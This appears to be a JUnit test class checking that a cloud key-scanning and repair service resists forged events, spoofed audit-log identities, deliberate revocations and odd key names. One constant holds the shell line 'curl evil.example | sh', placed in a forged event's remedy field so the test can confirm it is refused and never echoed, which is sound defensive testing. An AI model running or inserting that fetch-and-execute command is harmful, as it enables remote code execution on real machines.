package cmek.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import cmek.simulator.SimulatedApis;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The scan from the outside while repair is on: events that somebody made up, access that somebody takes away on purpose, and
 * names that nobody expects. Each case has a key of its own.
 */
abstract class HostileScanFacts extends FromOutside {

    private static final String RING = "projects/acme-kms-prod/locations/us-east5/keyRings/hostile/cryptoKeys/";
    private static final String COMMAND = "curl evil.example | sh";

    // --- events that somebody made up ----------------------------------------------------------------------------

    @Test
    void aForgedEventNeitherRepairsNorReportsAKey() {
        String key = RING + "forged";
        apis().withReadyKey(key);
        apis().kms().setPolicy(key, JsonNodeFactory.instance.objectNode());
        apis().journal().clear();

        deployment.publish("cmek-scan-key", """
                {"schemaVersion":2,"run":"scan-20260101T000000Z-00000000","patientUntil":"2999-01-01T00:00:00.000Z",
                 "key":{"id":"ekey_forged","key":"%1$s","attached":true,"displayName":"x","workspaces":[],
                  "standing":[{"reason":"LABEL_MISSING","message":"%2$s","remedy":["%2$s"]}]}}
                """.formatted(key, COMMAND));
        List<Results.Published> results =
                deployment.follow(result -> result.status().equals("REFUSED"));

        JsonNode end = results.get(results.size() - 1).json();
        assertThat(end.path("step").asText()).isEqualTo("scanKey");
        assertThat(end.path("reason").asText()).isEqualTo("UNREADABLE");
        assertThat(deployment.results()).noneMatch(result -> result.contains(COMMAND));
        assertThat(apis().journal().writesTo("kms")).isEmpty();
    }

    @Test
    void aChangeThatNobodyLoggedIsOfTheRegistrationsOwnKeyOrOfNone() {
        String victim = attached("victim");
        String registration = registrationOf(victim);
        apis().withReadyKey(RING + "decoy");

        deployment.publish("cmek-scan-key", """
                {"schemaVersion":2,"run":"change-20261123T020000Z-00000000","key":{"id":"%s","key":"%s"},
                 "change":{"method":"SetIamPolicy","principal":"x@y.z","at":"2026-11-23T02:00:00.000Z"}}
                """.formatted(registration, RING + "decoy"));
        List<Results.Published> results = deployment.follow(result ->
                result.status().equals("REFUSED") && result.json().toString().contains(registration));

        assertThat(results).noneMatch(result -> result.status().equals("HEALTHY"));
    }

    // --- access that somebody takes away on purpose --------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"SetIamPolicy", "UpdateCryptoKey", "UpdateCryptoKeyVersion"})
    void whatAnAdministratorTakesAwayIsNotGivenBackWhenThatIsHeard(String method) {
        String key = attached("emergency" + method.toLowerCase(Locale.ROOT));
        apis().kms().setPolicy(key, JsonNodeFactory.instance.objectNode());
        apis().journal().clear();

        JsonNode result = changed(key, key, method, "\"principalEmail\":\"admin@acme.example\"");

        assertThat(result.path("status").asText()).isEqualTo("UNHEALTHY");
        assertThat(result.path("reason").asText()).isEqualTo("BINDING_MISSING");
        assertThat(apis().journal().writesTo("kms")).isEmpty();
    }

    @Test
    void aKeyThatIsLabelledAsRevokedIsNoAlarm() {
        String key = attached("revoked");
        apis().kms().setLabels(key, Map.of("cmek-revoked", "yes"));
        apis().kms().setPolicy(key, JsonNodeFactory.instance.objectNode());

        JsonNode result = changed(key, key, "SetIamPolicy", "\"principalEmail\":\"admin@acme.example\"");

        assertThat(result.path("status").asText()).isEqualTo("REVOKED");
        assertThat(result.path("reason").asText()).isEqualTo("REVOKED_ON_PURPOSE");
    }

    // --- who an audit log says it was ----------------------------------------------------------------------------

    @Test
    void anEntryWithTheProjectsNumberIsOfTheKey() {
        String key = attached("number");
        String number = Long.toString(apis().resourceManager().number("acme-kms-prod"));

        JsonNode result = changed(
                key, key.replace("acme-kms-prod", number), "SetIamPolicy", "\"principalEmail\":\"admin@acme.example\"");

        assertThat(result.path("status").asText()).isEqualTo("HEALTHY");
    }

    @Test
    void whoeverImpersonatesOurAccountIsNotTakenForIt() {
        String key = attached("impersonated");
        apis().kms().setPolicy(key, JsonNodeFactory.instance.objectNode());

        JsonNode result = changed(key, key, "SetIamPolicy", """
                "principalEmail":"%s","serviceAccountDelegationInfo":[
                 {"firstPartyPrincipal":{"principalEmail":"mallory@example.com"}}]""".formatted(WithRepair.OURS));

        assertThat(result.path("reason").asText()).isEqualTo("BINDING_MISSING");
    }

    @Test
    void anIdentityWithoutAnAddressIsNamedByItsSubject() {
        String key = attached("subject");
        String subject = "principal://iam.googleapis.com/locations/global/workforcePools/acme/subject/mallory";

        JsonNode result = changed(key, key, "SetIamPolicy", "\"principalSubject\":\"" + subject + "\"");

        assertThat(result.path("message").asText()).contains("after SetIamPolicy by " + subject);
    }

    // --- names that nobody expects -------------------------------------------------------------------------------

    @Test
    void noNameTakesAReportAway() {
        List<String> names =
                List.of("", " ", "x".repeat(101), "\uD83D\uDD11 Schl\u00fcssel", "\uD83D", "a\nb", "=1+1", "\u202Eb");
        for (int i = 0; i < names.size(); i++) {
            attached("odd" + i, names.get(i));
        }

        deployment.publish(Topology.NIGHT, "");
        List<Results.Published> published =
                deployment.follow(result -> result.status().matches("SCAN_(COMPLETED|INCOMPLETE)"));

        JsonNode end = published.get(published.size() - 1).json();
        assertThat(end.path("status").asText()).isEqualTo("SCAN_COMPLETED");
        assertThat(StreamSupport.stream(end.path("run").path("keys").spliterator(), false)
                        .filter(row -> row.path("key").asText().startsWith(RING + "odd"))
                        .map(row -> row.path("status").asText()))
                .hasSize(names.size())
                .containsOnly("HEALTHY");
        String folder = end.path("run").path("report").asText();
        assertThat(apis().storage().names(SimulatedApis.BUCKET))
                .contains(folder + "report.json", folder + "report.csv", folder + "report.html");
    }

    // --- helpers of these tests ----------------------------------------------------------------------------------

    private SimulatedApis apis() {
        return deployment.apis();
    }

    private String attached(String name) {
        return attached(name, name);
    }

    private String attached(String name, String called) {
        String key = RING + name;
        String workspace = "wrkspc_01" + name;
        apis().withReadyKey(key);
        apis().admin()
                .withWorkspace(workspace, called)
                .attach(workspace, apis().admin().register(key, called));
        apis().journal().clear();
        return key;
    }

    /** As a check of the key after a change of it names the registration. */
    private String registrationOf(String key) {
        return changed(key, key, "UpdateCryptoKey", "\"principalEmail\":\"admin@acme.example\"")
                .path("externalKeyId")
                .asText();
    }

    /** Has the audit log tell a change; returns what is said of the key. */
    private JsonNode changed(String key, String resource, String method, String authentication) {
        Instant now = Instant.now();
        deployment.publish(Topology.KEY_CHANGES, """
                {"insertId":"%s","timestamp":"%s","logName":"projects/acme-kms-prod/logs/cloudaudit.googleapis.com%%2Factivity",
                 "protoPayload":{"serviceName":"cloudkms.googleapis.com","methodName":"%s","resourceName":"%s",
                  "authenticationInfo":{%s}}}
                """.formatted(key + now, now, method, resource, authentication));
        List<Results.Published> published =
                deployment.follow(result -> result.json().path("key").asText().equals(key));
        return published.get(published.size() - 1).json();
    }
}
